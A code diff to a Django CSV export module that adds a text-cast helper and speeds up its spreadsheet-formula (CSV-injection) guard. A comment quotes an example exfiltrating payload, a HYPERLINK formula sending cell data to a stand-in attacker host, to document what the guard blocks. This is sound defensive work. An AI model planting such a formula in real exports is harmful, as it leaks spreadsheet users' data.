@@ -9,6 +9,9 @@ from collections.abc import Iterable, Iterator
 from datetime import date
 from decimal import Decimal
 
+from django.db.models import TextField
+from django.db.models.functions import Cast
+
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -37,6 +40,13 @@ def spreadsheet_cell(value) -> object:
     return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
+def as_text(field: str) -> Cast:
+    """A date or amount column as PostgreSQL writes it (2026-04-01, 12.50), for a long
+    export: read as text, it needs no date or Decimal made and written back per cell.
+    Only for columns that cannot start a formula (dates, amounts never below zero)."""
+    return Cast(field, output_field=TextField())
+
+
 class _Echo:
     def write(self, value: str) -> str:
         return value
@@ -50,6 +60,11 @@ def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterable[str]:
         yield writer.writerow([spreadsheet_cell(cell) for cell in row])
 
 
+# Cells the csv module writes as they should read, with nothing to make safe: checked by
+# exact type, once per cell of a long export.
+_WRITTEN_AS_THEY_ARE = frozenset({Decimal, int, date, type(None)})
+
+
 def csv_blocks(
     header: list[str], rows: Iterable[Iterable], rows_per_block: int = 1000
 ) -> Iterator[str]:
@@ -58,16 +73,26 @@ def csv_blocks(
     60,000 writes to the socket), while a block keeps memory as flat as a row."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
-    cell = spreadsheet_cell
+    cell, as_they_are, formula = spreadsheet_cell, _WRITTEN_AS_THEY_ARE, FORMULA_STARTS
     buffer.write(BOM)
     writer.writerow([cell(value) for value in header])
-    waiting = 0
+    block: list[list] = []
     for row in rows:
-        writer.writerow([cell(value) for value in row])
-        waiting += 1
-        if waiting == rows_per_block:
+        # spreadsheet_cell's rule, with its commonest cases written out: a call per cell
+        # was a third of the export's time.
+        block.append(
+            [
+                ("'" + value if value.startswith(formula) else value)
+                if type(value) is str
+                else (value if type(value) in as_they_are else cell(value))
+                for value in row
+            ]
+        )
+        if len(block) == rows_per_block:
+            writer.writerows(block)
+            block.clear()
             yield buffer.getvalue()
             buffer.seek(0)
             buffer.truncate()
-            waiting = 0
+    writer.writerows(block)
     yield buffer.getvalue()
